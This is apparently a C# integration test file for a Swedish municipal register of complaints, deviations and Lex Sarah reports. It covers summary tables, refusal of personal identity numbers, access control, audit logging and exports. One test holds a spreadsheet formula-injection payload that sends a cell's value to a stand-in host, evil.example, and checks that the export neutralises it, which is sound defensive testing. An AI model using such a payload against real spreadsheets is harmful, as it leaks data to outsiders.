using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using Verksam.IntegrationTests.Infrastructure;
using Verksam.Web.Features.Organisation;
using Verksam.Web.Features.Register;
using Verksam.Web.Operations.Demo;
using Verksam.Web.Shared.Auditing;

namespace Verksam.IntegrationTests.Features.Register;

/// <summary>The register of synpunkter, klagomål, avvikelser and Lex Sarah: seed 003's table, personal data, access and handling.</summary>
public abstract class RegisterTests(AppFixture fixture) : IntegrationTest(fixture)
{
    private static readonly Guid Bestallarenheten = DemoData.Bestallarenheten;
    private static readonly string TableUrl = $"/organisation/{Bestallarenheten}/arenden/sammanstallning?ar=2024";

    /// <summary>Seed 003's last table, row by row: Uppdelning | category | Utfall T1 | T2 | VB | Totalt ack. (the group written once, as the seed does).</summary>
    private static readonly string[] Seed003Table =
    [
        "Antal rapporter som bedömts som allvarligt missförhållande eller påtaglig risk för missförhållande och anmälts till IVO|Lex Sarah|0|0||0 st",
        "Avvikelse rapporter enligt SoL - Vem har identifierat avvikelserna?|Extern samverkanspart/annan verksamhet||||",
        "|Medarbetare||2||2 st",
        "Beröm|Antal beröm||||",
        "Från vem har klagomål eller synpunkt inkommit?|Annan (t.ex. okänd)||||",
        "|Brukare/patient|2|||2 st",
        "|Medarbetare/verksamhet inom förvaltningen||||",
        "|Närstående (anhörig, god man, etc.)||||",
        "|Samverkanspart (ex annan förvaltning, Region Stockholm, Polis)||||",
        "Rapportering av lex Sarah och lex Maria|Lex Sarah|1|2||3 st",
        "Vad gällde klagomålet eller synpunkten?|Annat (ange vad i rapporteringsvyn)||||",
        "|Bemanning (Kontinuitet, vikarieanskaffning)||||",
        "|Bemötande|1|||1 st",
        "|Beslut (missnöje, avsaknad av beslut, ej kommunicerat etc.)||||",
        "|Brister i information (utebliven info, obegriplig info, etc.)|1|||1 st",
        "|Brister i rutiner/utförande av insats eller verksamhet||||",
        "|Fråga/idé||||",
        "|Fysisk inne- eller utemiljö (ej städad, avsaknad av material etc.)||||",
        "|Hantering av personuppgifter||||",
        "|Kompetens||||",
        "|Teknik, verksamhetssystem och IT-relaterade frågor||||",
        "|Tillgänglighet (öppetider, telefontider, fysisk miljö)||||",
        "|Utebliven/försenad insats eller aktivitet||||",
        "Vad har avvikelser berört?|Annat||||",
        "|Bemötande||||",
        "|Brister i rättssäkerhet vid handläggning och utförande||||",
        "|Brister i utförande av insats||2||2 st",
        "|Fysisk miljö, utrustning och teknik||||",
        "Vem avser avvikelser?|Annan verksamhet||2||2 st",
        "|Den egna verksamheten||||",
        "Återkoppling|Antal klagomål där återkoppling har lämnats|2|||2 st",
    ];

    [Fact]
    public async Task Table_OfBestallarenheten2024_EqualsSeed003CellForCell()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var page = await session.GetAsync(TableUrl);

        page.Status.ShouldBe(HttpStatusCode.OK);
        var headings = page.Document.QuerySelectorAll("table.register-table thead th").Select(th => th.TextContent.Trim()).ToList();
        headings.ShouldBe(["Uppdelning", "Klagomål/synpunkter/kategorier", "Utfall T1", "Utfall T2", "Utfall VB", "Totalt ack. Utfall", "Sammanfattning och planerade åtgärder"]);
        var rows = TableRows(page);

        // The seed's last row, complaints where measures were taken: empty, as seed 003 has it (issue 18, item 19).
        rows.Take(Seed003Table.Length).ShouldBe(Seed003Table);
        rows.Skip(Seed003Table.Length).ShouldBe(["Åtgärder|Antal klagomål där åtgärder vidtagits||||"]);
        page.Body.ShouldContain("raderna om anmälan till IVO och återkoppling visar 0 när det fanns rapporter eller klagomål att bedöma");
    }

    [Fact]
    public async Task Table_OfAForvaltning_IsTheSumOfItsUnitsTables()
    {
        await DemoAsync("administrator");
        var second = await AddUnitAsync(DemoData.HagerstenAlvsjo, "Socialpsykiatri");
        await WithDbAsync(async db =>
        {
            Matter[] matters =
            [
                NewMatter(second, MatterKind.Complaint, new DateOnly(2024, 2, 1), m => { m.Source = MatterSource.Relative; m.Category = ComplaintCategory.Treatment; m.FeedbackGiven = true; }),
                NewMatter(second, MatterKind.Complaint, new DateOnly(2024, 10, 1), m => { m.Source = MatterSource.Client; m.Category = ComplaintCategory.Staffing; m.Measures = "Schemat ses över."; }),
                NewMatter(second, MatterKind.Deviation, new DateOnly(2024, 6, 1), m => { m.IdentifiedBy = DeviationIdentifiedBy.ExternalPartner; m.DeviationCategory = DeviationCategory.Treatment; m.Concerns = DeviationConcerns.OwnUnit; }),
                NewMatter(second, MatterKind.LexSarah, new DateOnly(2024, 11, 5), m => { m.Decision = SeriousnessDecision.Serious; m.DecidedOn = new DateOnly(2024, 11, 20); m.IvoNotifiedOn = new DateOnly(2024, 11, 25); }),
                NewMatter(second, MatterKind.Praise, new DateOnly(2024, 4, 30), _ => { }),
                NewMatter(second, MatterKind.Complaint, new DateOnly(2023, 12, 31), m => { m.Source = MatterSource.Client; m.Category = ComplaintCategory.Other; }),
            ];
            Matter.NumberInOrder(matters);
            db.Matters.AddRange(matters);
            await db.SaveChangesAsync();
        });
        var session = await LoginAsync("godkannare.hagersten", DemoData.Password);

        var board = Numbers(TableRows(await session.GetAsync($"/organisation/{DemoData.HagerstenAlvsjo}/arenden/sammanstallning?ar=2024")));
        var first = Numbers(TableRows(await session.GetAsync(TableUrl)));
        var other = Numbers(TableRows(await session.GetAsync($"/organisation/{second}/arenden/sammanstallning?ar=2024")));

        board.Count.ShouldBe(first.Count);
        for (var r = 0; r < board.Count; r++)
        {
            board[r].ShouldBe(first[r].Zip(other[r], (a, b) => a + b).ToArray(), $"row {r}");
        }

        // The other unit's own table has its matters in the right tertial and row, and the 2023 one is not counted.
        TableRows(await session.GetAsync($"/organisation/{second}/arenden/sammanstallning?ar=2024")).ShouldContain("Antal rapporter som bedömts som allvarligt missförhållande eller påtaglig risk för missförhållande och anmälts till IVO|Lex Sarah|||1|1 st");
        board.Sum(r => r[3]).ShouldBe(first.Sum(r => r[3]) + other.Sum(r => r[3]));
        other.Sum(r => r[3]).ShouldBeGreaterThan(0);
    }

    [Theory]
    [InlineData("811218-9876")]
    [InlineData("8112189876")]
    [InlineData("19811218-9876")]
    [InlineData("198112189876")]
    public async Task PersonalIdentityNumber_InAnyFreeTextField_IsRefused_AndNothingSaved(string number)
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var record = $"/organisation/{Bestallarenheten}/arenden/registrera";
        var before = await WithDbAsync(db => db.Matters.CountAsync());

        var refused = await session.SubmitAsync(record, Complaint($"Brukaren {number} är missnöjd med bemötandet."));
        refused.ErrorMessages.ShouldBe(["Beskrivning: texten innehåller ett personnummer. Skriv inte personnummer i registret – det är uppgifter om en person i vård och omsorg. Beskriv bara det ärendet kräver, utan uppgifter som pekar ut personen."]);
        refused.Document.QuerySelector(".error-summary a")!.GetAttribute("href").ShouldBe("#Input_Description");
        refused.Document.QuerySelector("#Input_Description")!.TextContent.ShouldContain(number);

        var other = Complaint("Brukaren är missnöjd.");
        other["Input.Category"] = "Other";
        other["Input.OtherCategory"] = $"Gäller {number}";
        (await session.SubmitAsync(record, other)).ErrorMessages.ShouldBe([Refusal("Ange vad (vid Annat)")]);
        (await WithDbAsync(db => db.Matters.CountAsync())).ShouldBe(before);

        var matterId = await WithDbAsync(db => db.Matters.Where(m => m.OrgUnitId == Bestallarenheten && m.Kind == MatterKind.Complaint).OrderBy(m => m.ReceivedOn).Select(m => m.Id).FirstAsync());
        var stored = await WithDbAsync(db => db.Matters.AsNoTracking().SingleAsync(m => m.Id == matterId));
        var url = $"/organisation/{Bestallarenheten}/arenden/{matterId}";
        foreach (var (field, label) in new[] { ("Input.Investigation", "Utredning"), ("Input.Measures", "Vidtagna åtgärder") })
        {
            var handled = await session.SubmitAsync(url, new Dictionary<string, string> { ["Input.Status"] = "Investigating", [field] = $"Samtal med {number}." });
            handled.ErrorMessages.ShouldBe([Refusal(label)]);
        }

        var after = await WithDbAsync(db => db.Matters.AsNoTracking().SingleAsync(m => m.Id == matterId));
        (after.Version, after.Investigation, after.Measures, after.Status).ShouldBe((stored.Version, stored.Investigation, stored.Measures, stored.Status));

        var summary = await session.SubmitAsync(TableUrl, new Dictionary<string, string> { ["Summaries[berom]"] = $"Beröm från {number}." }, "main form[method=post]");
        summary.ErrorMessages.ShouldBe([Refusal("Beröm")]);
        (await WithDbAsync(db => db.RegisterSummaries.CountAsync())).ShouldBe(0);
    }

    [Fact]
    public async Task NumbersThatAreNotPersonalIdentityNumbers_AreKept()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");

        // Wrong check digit, a month 13, and a telephone number with its area code.
        var saved = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Ärende 811218-9875, beslut 811318-9876, ring 08-508 000 00."));

        saved.Status.ShouldBe(HttpStatusCode.Redirect);
        (await WithDbAsync(db => db.Matters.CountAsync(m => m.Description.StartsWith("Ärende 811218-9875")))).ShouldBe(1);
    }

    [Fact]
    public async Task UserOfAnotherUnit_Gets404ForAMatter_AndSeesItInNoListOrCount()
    {
        var session = await DemoAsync("enhetschef.lss");
        var matterId = await WithDbAsync(db => db.Matters.Where(m => m.OrgUnitId == Bestallarenheten).Select(m => m.Id).FirstAsync());

        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/{matterId}")).Status.ShouldBe(HttpStatusCode.NotFound);
        (await session.GetAsync($"/organisation/{DemoData.MyndighetLss}/arenden/{matterId}")).Status.ShouldBe(HttpStatusCode.NotFound);
        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/registrera/{matterId}")).Status.ShouldBe(HttpStatusCode.NotFound);
        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden")).Status.ShouldBe(HttpStatusCode.NotFound);
        (await session.GetAsync(TableUrl)).Status.ShouldBe(HttpStatusCode.NotFound);
        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2024&format=csv")).Status.ShouldBe(HttpStatusCode.NotFound);
        var posted = await session.PostWithoutTokenAsync($"/organisation/{Bestallarenheten}/arenden/{matterId}", new Dictionary<string, string> { ["Input.Status"] = "Closed" });
        posted.Status.ShouldNotBe(HttpStatusCode.OK);

        var own = await session.GetAsync($"/organisation/{DemoData.MyndighetLss}/arenden?ar=2024");
        own.Status.ShouldBe(HttpStatusCode.OK);
        own.Body.ShouldNotContain(matterId.ToString());
        own.Body.ShouldContain("Inga ärenden för året");
        TableRows(await session.GetAsync($"/organisation/{DemoData.MyndighetLss}/arenden/sammanstallning?ar=2024")).ShouldAllBe(r => r.Split('|', StringSplitOptions.None).Skip(2).All(c => c.Length == 0));
        var csv = await session.Client.GetStringAsync($"/organisation/{DemoData.MyndighetLss}/arenden/export?ar=2024&format=csv");
        csv.Trim('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries).Length.ShouldBe(1);
    }

    [Fact]
    public async Task BoardReader_SeesCountsButNoMatter_AndARegisterGrantOpensTheMatters()
    {
        var reader = await DemoAsync("lasare");
        var matterId = await WithDbAsync(db => db.Matters.Where(m => m.OrgUnitId == Bestallarenheten).Select(m => m.Id).FirstAsync());

        TableRows(await reader.GetAsync(TableUrl)).Take(Seed003Table.Length).ShouldBe(Seed003Table);
        ShouldBeForbidden(await reader.GetAsync($"/organisation/{Bestallarenheten}/arenden"));
        ShouldBeForbidden(await reader.GetAsync($"/organisation/{Bestallarenheten}/arenden/{matterId}"));
        ShouldBeForbidden(await reader.GetAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2024&format=xlsx"));
        (await reader.GetAsync($"/organisation/{Bestallarenheten}")).Body.ShouldNotContain($"/organisation/{Bestallarenheten}/arenden\"");

        var officer = await LoginAsync("kvalitet.hagersten", DemoData.Password);
        var list = await officer.GetAsync($"/organisation/{Bestallarenheten}/arenden?ar=2024");
        list.Status.ShouldBe(HttpStatusCode.OK);
        list.Document.QuerySelectorAll("table tbody tr").Length.ShouldBe(7);
        (await officer.GetAsync($"/organisation/{Bestallarenheten}/arenden/{matterId}")).Status.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task LexSarah_CannotCloseWithoutADecision_AndASeriousOneNotUntilIvoIsNotified()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var recorded = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", new Dictionary<string, string>
        {
            ["Input.Kind"] = "LexSarah",
            ["Input.ReceivedOn"] = "2025-03-03",
            ["Input.Description"] = "Rapport om att en insats uteblev en helg.",
        });
        recorded.Status.ShouldBe(HttpStatusCode.Redirect);
        var url = recorded.Location!;
        var close = new Dictionary<string, string> { ["Input.Status"] = "Closed", ["Input.ClosedOn"] = "2025-03-20", ["Input.Investigation"] = "Insatsen uteblev på grund av ett schemafel." };

        var refused = await session.SubmitAsync(url, close);
        refused.ErrorMessages.ShouldBe(["Ett Lex Sarah-ärende kan inte avslutas utan beslut om missförhållandet är allvarligt eller inte."]);
        refused.Document.QuerySelector(".error-summary a")!.GetAttribute("href").ShouldBe("#Input_Decision");
        (await StatusOfAsync(url)).ShouldBe(MatterStatus.Received);

        var serious = new Dictionary<string, string>(close) { ["Input.Decision"] = "Serious", ["Input.DecidedOn"] = "2025-03-14" };
        (await session.SubmitAsync(url, serious)).ErrorMessages.ShouldBe(["Datum då IVO underrättades: ange ett datum (ÅÅÅÅ-MM-DD)."]);
        (await StatusOfAsync(url)).ShouldBe(MatterStatus.Received);

        var notSeriousWithIvo = new Dictionary<string, string>(close) { ["Input.Decision"] = "NotSerious", ["Input.DecidedOn"] = "2025-03-14", ["Input.IvoNotifiedOn"] = "2025-03-15" };
        (await session.SubmitAsync(url, notSeriousWithIvo)).ErrorMessages.ShouldBe(["Datum för anmälan till IVO fylls bara i när missförhållandet bedömts som allvarligt."]);

        serious["Input.IvoNotifiedOn"] = "2025-03-17";
        (await session.SubmitAsync(url, serious)).Status.ShouldBe(HttpStatusCode.Redirect);
        (await StatusOfAsync(url)).ShouldBe(MatterStatus.Closed);
        TableRows(await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/sammanstallning?ar=2025"))[0]
            .ShouldBe("Antal rapporter som bedömts som allvarligt missförhållande eller påtaglig risk för missförhållande och anmälts till IVO|Lex Sarah|1|||1 st");
    }

    [Fact]
    public async Task ReadingAMatter_LexSarahOrNot_LeavesAnAuditEvent_AndTheLogNeverHoldsTheTexts()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var lexSarah = await WithDbAsync(db => db.Matters.Where(m => m.OrgUnitId == Bestallarenheten && m.Kind == MatterKind.LexSarah).Select(m => m.Id).FirstAsync());
        var complaint = await WithDbAsync(db => db.Matters.Where(m => m.OrgUnitId == Bestallarenheten && m.Kind == MatterKind.Complaint).Select(m => m.Id).FirstAsync());
        var before = (await Data.AuditEventsAsync()).Count;

        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/{lexSarah}")).Status.ShouldBe(HttpStatusCode.OK);
        (await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/{complaint}")).Status.ShouldBe(HttpStatusCode.OK);

        var reads = (await Data.AuditEventsAsync()).Skip(before).ToList();
        reads.Select(r => (r.Action, r.EntityType, r.EntityId, r.OrgUnitId, r.ActorName)).ShouldBe(
        [
            (AuditAction.Read, "Matter", lexSarah.ToString(), Bestallarenheten, "Enhetschef Beställarenheten för funktionsnedsättning"),
            (AuditAction.Read, "Matter", complaint.ToString(), Bestallarenheten, "Enhetschef Beställarenheten för funktionsnedsättning"),
        ]);

        // Every matter of 2024 exported, not only the Lex Sarah ones.
        await session.Client.GetByteArrayAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2024&format=csv");
        (await Data.AuditEventsAsync()).Skip(before + 2).Count(e => e.Action == AuditAction.Read && e.EntityType == "Matter").ShouldBe(7);

        var recorded = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Brukaren väntade länge på svar om ledsagning."));
        recorded.Status.ShouldBe(HttpStatusCode.Redirect);
        var created = (await Data.AuditEventsAsync()).Last(e => e.EntityType == "Matter" && e.Action == AuditAction.Created);
        created.Changes.ShouldNotContain("ledsagning");
        created.ReadChanges()["Description"].After.ShouldBe(SensitiveTextAttribute.Placeholder);
        created.ReadChanges()["Kind"].After.ShouldBe("Complaint");
    }

    [Fact]
    public async Task Export_LeavesOutTheTextsUnlessAskedFor_InCsvAndXlsx()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var baseUrl = $"/organisation/{Bestallarenheten}/arenden/export?ar=2024";

        var csv = (await session.Client.GetStringAsync(baseUrl + "&tertial=1&format=csv")).Trim('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();
        csv.Count.ShouldBe(4);
        csv[0].ShouldStartWith("Nr;Inkom;Enhet;Typ av ärende;");
        csv[0].ShouldNotContain("Beskrivning");
        csv[1].ShouldStartWith("2024-001;2024-02-12;Beställarenheten för funktionsnedsättning;Klagomål;Brukare/patient;Bemötande;");
        string.Join("\n", csv).ShouldNotContain("otrevlig");

        var response = await session.Client.GetAsync(baseUrl + "&format=xlsx&texter=true");
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        await using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        using var workbook = SpreadsheetDocument.Open(stream, false);
        var rows = workbook.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().Select(r => r.Elements<Cell>().Select(c => c.InnerText).ToList()).ToList();
        rows.Count.ShouldBe(8);
        rows[0].ShouldContain("Beskrivning");
        rows[1][rows[0].IndexOf("Beskrivning")].ShouldBe("Brukaren upplevde att handläggaren var otrevlig vid uppföljningsmötet.");
    }

    [Fact]
    public async Task ExportCsv_WithTexts_NeutralisesATextASpreadsheetWouldRunAsAFormula()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", "2025-06-10"))).Location.ShouldNotBeNull();

        var csv = await session.Client.GetStringAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2025&format=csv&texter=true");

        csv.ShouldContain("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klick\"\")\"");
        csv.ShouldNotContain(";\"=HYPERLINK(");
    }

    [Fact]
    public async Task PersonalDataDownloadsAndTheApi_AreNeverStored()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");

        var csv = await session.Client.GetAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2024&format=csv&texter=true");
        var xlsx = await session.Client.GetAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2024&format=xlsx&texter=true");
        var word = await session.Client.GetAsync($"/organisation/{Bestallarenheten}/uppfoljning/2024-VB/dokument?handler=word");
        var api = await session.Client.GetAsync("/api/me");

        foreach (var response in new[] { csv, xlsx, word, api })
        {
            response.StatusCode.ShouldBe(HttpStatusCode.OK);
            response.Headers.CacheControl.ShouldNotBeNull(response.RequestMessage!.RequestUri!.PathAndQuery).NoStore.ShouldBeTrue(response.RequestMessage!.RequestUri!.PathAndQuery);
        }
    }

    [Fact]
    public async Task ComplaintHandledAndClosed_CountsInItsTertialsRows()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var recorded = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Brukaren fick vänta på beslut.", "2025-06-10"));
        var url = recorded.Location!;

        var noFeedbackDate = await session.SubmitAsync(url, new Dictionary<string, string> { ["Input.Status"] = "Investigated", ["Input.Investigation"] = "Utrett.", ["Input.FeedbackGiven"] = "true" });
        noFeedbackDate.ErrorMessages.ShouldBe(["Datum för återkoppling: ange ett datum (ÅÅÅÅ-MM-DD).", "Välj hur återkopplingen lämnades."]);
        var noInvestigation = await session.SubmitAsync(url, new Dictionary<string, string> { ["Input.Status"] = "Closed", ["Input.ClosedOn"] = "2025-07-01" });
        noInvestigation.ErrorMessages.ShouldBe(["Skriv utredningen innan ärendet markeras som utrett eller avslutat."]);

        (await session.SubmitAsync(url, new Dictionary<string, string>
        {
            ["Input.Status"] = "Closed",
            ["Input.Investigation"] = "Beslutet dröjde på grund av semester.",
            ["Input.Measures"] = "Rutin för semesterbemanning ses över.",
            ["Input.FeedbackGiven"] = "true",
            ["Input.FeedbackOn"] = "2025-06-20",
            ["Input.FeedbackForm"] = "Phone",
            ["Input.ClosedOn"] = "2025-06-25",
        })).Status.ShouldBe(HttpStatusCode.Redirect);

        var rows = TableRows(await session.GetAsync($"/organisation/{Bestallarenheten}/arenden/sammanstallning?ar=2025"));
        rows.ShouldContain("|Brukare/patient||1||1 st");
        rows.ShouldContain("|Bemötande||1||1 st");
        rows.ShouldContain("Återkoppling|Antal klagomål där återkoppling har lämnats||1||1 st");
        rows.ShouldContain("Åtgärder|Antal klagomål där åtgärder vidtagits||1||1 st");
    }

    [Fact]
    public async Task ANewMatter_GetsTheNextNumberInItsUnitAndYear_WhichStaysWhenTheDateIsCorrected()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var inDemoYear = await WithDbAsync(db => db.Matters.CountAsync(m => m.OrgUnitId == Bestallarenheten && m.NumberYear == 2024));

        var first = (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Första.", "2024-12-30"))).Location!;
        var second = (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Andra.", "2025-01-02"))).Location!;
        (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera/{first.Split('/').Last()}", Complaint("Första.", "2025-01-03"))).Status.ShouldBe(HttpStatusCode.Redirect);

        WebSession.Squash((await session.GetAsync(first)).Document.QuerySelector("h1")!.TextContent).ShouldEndWith($"Klagomål nr 2024-{inDemoYear + 1:000}");
        WebSession.Squash((await session.GetAsync(second)).Document.QuerySelector("h1")!.TextContent).ShouldEndWith("Klagomål nr 2025-001");
        var list = await session.GetAsync($"/organisation/{Bestallarenheten}/arenden?ar=2025");
        list.Document.QuerySelectorAll("table tbody tr td:first-child a").Select(a => a.TextContent).ShouldBe(["2024-" + (inDemoYear + 1).ToString("000"), "2025-001"], ignoreOrder: true);
    }

    [Fact]
    public async Task TheLevelAbove_RecordsAMatterOnTheUnitItConcerns_AndTheUnitSeesIt()
    {
        var board = await DemoAsync("godkannare.hagersten");
        var form = await board.GetAsync($"/organisation/{DemoData.HagerstenAlvsjo}/arenden/registrera");
        var options = form.Document.QuerySelectorAll("select#RecordOn option").Select(o => (o.GetAttribute("value"), WebSession.Squash(o.TextContent))).ToList();
        options.ShouldContain((Bestallarenheten.ToString(), "Beställarenheten för funktionsnedsättning"));
        form.Document.QuerySelector("select#RecordOn option[selected]")!.GetAttribute("value").ShouldBe(DemoData.HagerstenAlvsjo.ToString());

        var recorded = await board.SubmitAsync(form, new Dictionary<string, string>(Complaint("Brukaren fick vänta på beslut.")) { ["RecordOn"] = Bestallarenheten.ToString() }, "main form", $"/organisation/{DemoData.HagerstenAlvsjo}/arenden/registrera");

        recorded.Location!.ShouldStartWith($"/organisation/{Bestallarenheten}/arenden/");
        (await WithDbAsync(db => db.Matters.Where(m => m.Description == "Brukaren fick vänta på beslut.").Select(m => m.OrgUnitId).SingleAsync())).ShouldBe(Bestallarenheten);
        var unitManager = await LoginAsync("enhetschef.bestallarenheten", DemoData.Password);
        (await unitManager.GetAsync(recorded.Location!)).Status.ShouldBe(HttpStatusCode.OK);
        (await unitManager.GetAsync($"/organisation/{Bestallarenheten}/arenden/registrera")).Document.QuerySelector("select#RecordOn").ShouldBeNull();
    }

    [Fact]
    public async Task RecordingOnAUnitOutsideTheRegister_IsRefusedAndStoresNothing()
    {
        var unitManager = await DemoAsync("enhetschef.bestallarenheten");
        var count = await WithDbAsync(db => db.Matters.CountAsync());

        var refused = await unitManager.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera",
            new Dictionary<string, string>(Complaint("Fel enhet.")) { ["RecordOn"] = DemoData.HagerstenAlvsjo.ToString() });

        refused.Status.ShouldBe(HttpStatusCode.OK);
        refused.ErrorMessages.ShouldBe(["Välj en av enheterna i listan."]);
        (await WithDbAsync(db => db.Matters.CountAsync())).ShouldBe(count);
    }

    [Fact]
    public async Task SecondEditorsStaleHandling_IsRefused_AndTheirTextIsKept()
    {
        var first = await DemoAsync("enhetschef.bestallarenheten");
        var second = await LoginAsync("godkannare.hagersten", DemoData.Password);
        var recorded = await first.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Brukaren fick fel tid för mötet."));
        var url = recorded.Location!;
        var secondsForm = await second.GetAsync(url);

        (await first.SubmitAsync(url, new Dictionary<string, string> { ["Input.Status"] = "Investigating", ["Input.Investigation"] = "Första utredningen." })).Status.ShouldBe(HttpStatusCode.Redirect);
        var refused = await second.SubmitAsync(secondsForm, new Dictionary<string, string> { ["Input.Status"] = "Investigating", ["Input.Investigation"] = "Andra utredningen." }, "main form", url);

        refused.Status.ShouldBe(HttpStatusCode.OK);
        refused.ErrorMessages.Single().ShouldContain("Någon annan har sparat");
        refused.Document.QuerySelector("#Input_Investigation")!.TextContent.ShouldBe("Andra utredningen.");
        (await WithDbAsync(db => db.Matters.Where(m => m.Description == "Brukaren fick fel tid för mötet.").Select(m => m.Investigation).SingleAsync())).ShouldBe("Första utredningen.");
    }

    [Fact]
    public async Task OpenMatter_IsFlaggedAfterTheUnitsLimit_WhichAUnitSetsForItselfAndTheUnitsBelow()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var received = DateOnly.FromDateTime(DateTime.Today).AddDays(-10).ToString("yyyy-MM-dd");
        var url = (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Brukaren väntar på svar.", received))).Location!;
        (await session.GetAsync(url)).Document.QuerySelector(".notice--warning").ShouldBeNull();

        var settings = $"/organisation/{Bestallarenheten}/arenden/installningar";
        var refused = await session.SubmitAsync(settings, new Dictionary<string, string> { ["Input.Inherit"] = "false", ["Input.OpenDaysLimit"] = "0", ["Input.DecisionDaysLimit"] = "14", ["Input.IvoDaysLimit"] = "7" });
        refused.ErrorMessages.ShouldBe(["Skriv hur många dagar ett ärende får vara öppet innan det flaggas, från 1 till 365."]);
        var unreadable = await session.SubmitAsync(settings, new Dictionary<string, string> { ["Input.Inherit"] = "false", ["Input.OpenDaysLimit"] = "fjorton", ["Input.DecisionDaysLimit"] = "14", ["Input.IvoDaysLimit"] = "7" });
        unreadable.ErrorMessages.ShouldBe(["Dagar innan ett öppet ärende flaggas: ”fjorton” kunde inte läsas. Kontrollera värdet och försök igen."], "one message, naming the field");
        (await session.SubmitAsync(settings, new Dictionary<string, string> { ["Input.Inherit"] = "false", ["Input.OpenDaysLimit"] = "5", ["Input.DecisionDaysLimit"] = "14", ["Input.IvoDaysLimit"] = "7" })).Status.ShouldBe(HttpStatusCode.Redirect);

        WebSession.Squash((await session.GetAsync(url)).Document.QuerySelector(".notice--warning li")!.TextContent).ShouldBe("Öppet i 10 dagar (gräns 5 dagar)");
        var list = await session.GetAsync($"/organisation/{Bestallarenheten}/arenden?oppna=true");
        WebSession.Squash(list.Document.QuerySelector("table tbody tr")!.TextContent).ShouldContain("Öppet i 10 dagar (gräns 5 dagar)");

        // The board above sets a limit; the unit's own still applies to it.
        var board = await LoginAsync("godkannare.hagersten", DemoData.Password);
        (await board.SubmitAsync($"/organisation/{DemoData.HagerstenAlvsjo}/arenden/installningar", new Dictionary<string, string> { ["Input.Inherit"] = "false", ["Input.OpenDaysLimit"] = "60", ["Input.DecisionDaysLimit"] = "14", ["Input.IvoDaysLimit"] = "7" })).Status.ShouldBe(HttpStatusCode.Redirect);
        (await session.GetAsync(url)).Document.QuerySelector(".notice--warning").ShouldNotBeNull();
        (await session.SubmitAsync(settings, new Dictionary<string, string> { ["Input.Inherit"] = "true" })).Status.ShouldBe(HttpStatusCode.Redirect);
        (await session.GetAsync(url)).Document.QuerySelector(".notice--warning").ShouldBeNull();
        (await session.GetAsync(settings)).Body.ShouldContain("Ärvs från Hägersten-Älvsjö stadsdelsnämnd: öppet ärende 60 dagar");
    }

    /// <summary>A page the user may not see though they read the unit: the framework's 403, by way of the status page.</summary>
    private static void ShouldBeForbidden(WebSession.PageResult page)
    {
        page.Status.ShouldBe(HttpStatusCode.Redirect);
        page.Location!.ShouldContain("/status/403");
    }

    private static string Refusal(string label) =>
        $"{label}: texten innehåller ett personnummer. Skriv inte personnummer i registret – det är uppgifter om en person i vård och omsorg. Beskriv bara det ärendet kräver, utan uppgifter som pekar ut personen.";

    [Fact]
    public async Task AComplaintWithSeveralErrors_ListsThemInTheFormsOrder_InTheComplaintsOwnWords()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");

        // Every field as a browser posts it, in the form's order, the unchosen ones empty.
        var refused = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", new Dictionary<string, string>
        {
            ["Input.Kind"] = "Complaint",
            ["Input.ReceivedOn"] = "2025-05-15",
            ["Input.Source"] = "",
            ["Input.Category"] = "Other",
            ["Input.IdentifiedBy"] = "",
            ["Input.DeviationCategory"] = "",
            ["Input.Concerns"] = "",
            ["Input.OtherCategory"] = "",
            ["Input.Description"] = "",
        });

        refused.ErrorMessages.ShouldBe(["Välj från vem klagomålet kommit.", "Ange vad ärendet gällde, när du valt Annat.", "Skriv en beskrivning av ärendet."]);
        refused.Document.QuerySelectorAll(".error-summary a").Select(a => a.GetAttribute("href")).ShouldBe(["#Input_Source", "#Input_OtherCategory", "#Input_Description"]);
    }

    [Fact]
